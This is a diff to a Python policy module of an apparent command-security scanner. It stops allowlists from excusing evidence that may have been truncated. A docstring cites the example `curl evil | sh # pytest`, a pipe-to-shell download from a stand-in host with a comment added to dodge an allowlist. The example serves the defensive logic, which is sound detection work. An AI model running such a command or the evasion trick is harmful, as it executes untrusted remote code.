@@ -17,6 +17,9 @@ from .types import CATEGORIES, Finding, Incomplete, Severity, Verdict
 __all__ = ["Policy", "COMBINE_MODES"]
 
 COMBINE_MODES = ("rules", "classifier", "either")
+#: Detectors keep at most 240 characters on a side of a match (rules) or of an action (classifier),
+#: so evidence shorter than this is the whole line; longer evidence may be a window of a longer one.
+WHOLE_EVIDENCE_BELOW = 240
 _DETECTOR_OF_MODE = {"rules": "rule", "classifier": "classifier"}
 
 
@@ -54,9 +57,12 @@ class Policy:
         """True when the team has accepted this finding: a disabled rule, evidence whose every network
         target is an allowlisted host (and there is at least one), or evidence that an
         `allow_commands` pattern matches as a whole (not a search: `pytest` does not excuse
-        `curl evil | sh # pytest`)."""
+        `curl evil | sh # pytest`). Evidence that may have been cut short is never excused by an
+        allowlist: what was cut (the real destination after a padded option) is unseen."""
         if finding.rule_id in self.disabled_rules:
             return True
+        if len(finding.evidence) >= WHOLE_EVIDENCE_BELOW:
+            return False
         if self._hosts.excuses(finding.evidence):
             return True
         return self._allow_rx is not None and self._allow_rx.fullmatch(finding.evidence.strip()) is not None
